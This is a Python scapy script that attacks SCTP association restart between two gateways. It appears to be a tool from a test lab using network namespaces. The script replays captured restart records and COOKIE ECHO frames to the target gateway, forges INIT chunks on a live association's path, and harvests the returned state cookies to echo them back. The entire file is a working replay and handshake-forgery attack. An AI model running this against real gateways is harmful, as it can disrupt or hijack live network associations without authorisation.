#!/usr/bin/python3
"""Attacks the restart of live associations from the link between the gateways, with what was captured.

Sends to gateway B, each frame once more or with changes:
  replayed   every record under restart keys of the capture: COOKIE ECHOs and what followed them
  inits      INITs on the path of a live association, each with a tag of its own
  echoes     the cookies that these INITs are answered with, echoed in clear
Prints as JSON how many of each it sent.

Usage: restart_attack.py INTERFACE CAPTURE TARGET-ADDRESS INITS    (in the namespace of gateway A)
"""
import json
import random
import struct
import sys
import time

from scapy.all import IP, AsyncSniffer, Ether, Raw, conf
from scapy.layers.sctp import SCTP
from scapy.utils import RawPcapReader

INIT, INIT_ACK, COOKIE_ECHO, DTLS = 1, 2, 10, 0x41


def chunk(kind, value):
    return bytes([kind, 0]) + struct.pack(">H", 4 + len(value)) + value + bytes(-len(value) % 4)


def main():
    interface, capture, target, inits = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    conf.verb = 0
    rng = random.Random(20260702)
    link = conf.L2socket(iface=interface)
    restarts, live_init = [], None
    for octets, _ in RawPcapReader(capture):
        frame = Ether(octets)
        if IP not in frame or frame[IP].dst != target or frame[IP].proto != 132:
            continue
        sctp = bytes(frame[IP].payload)
        if sctp[12] == DTLS and sctp[13] & 1:
            restarts.append(octets)
        elif sctp[12] == INIT:
            live_init = frame  # the last one was a restart's: its association lives
    for octets in restarts:
        link.send(Raw(octets))
        time.sleep(0.0005)

    ether, ip = live_init[Ether], live_init[IP]
    sctp = bytes(ip.payload)
    source, destination = struct.unpack(">HH", sctp[:4])
    length = struct.unpack(">H", sctp[14:16])[0]
    cookies = []

    def keep_cookie(frame):
        got = bytes(frame[IP].payload)
        at = 12 + 20
        while at + 4 <= len(got):
            kind, size = struct.unpack(">HH", got[at:at + 4])
            if kind == 7:
                cookies.append((struct.unpack(">I", got[16:20])[0], got[at + 4:at + size]))
            at += (size + 3) & ~3 if size >= 4 else len(got)

    def send(tag, octets):
        payload = SCTP(sport=source, dport=destination, tag=tag) / Raw(octets)
        link.send(Raw(bytes(Ether(src=ether.src, dst=ether.dst) /
                            IP(src=ip.src, dst=ip.dst, proto=132) / payload)))

    sniffer = AsyncSniffer(iface=interface, store=False, prn=keep_cookie,
                           lfilter=lambda f: IP in f and f[IP].src == target and f[IP].proto == 132 and
                           bytes(f[IP].payload)[12] == INIT_ACK)
    sniffer.start()
    time.sleep(0.3)
    for _ in range(inits):
        value = rng.getrandbits(32).to_bytes(4, "big") + sctp[20:12 + length]
        send(0, chunk(INIT, value))
        time.sleep(0.001)
    time.sleep(0.5)
    sniffer.stop()
    for tag, cookie in cookies:
        send(tag, chunk(COOKIE_ECHO, cookie))
        time.sleep(0.0005)
    print(json.dumps({"replayed": len(restarts), "inits": inits, "echoes": len(cookies)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
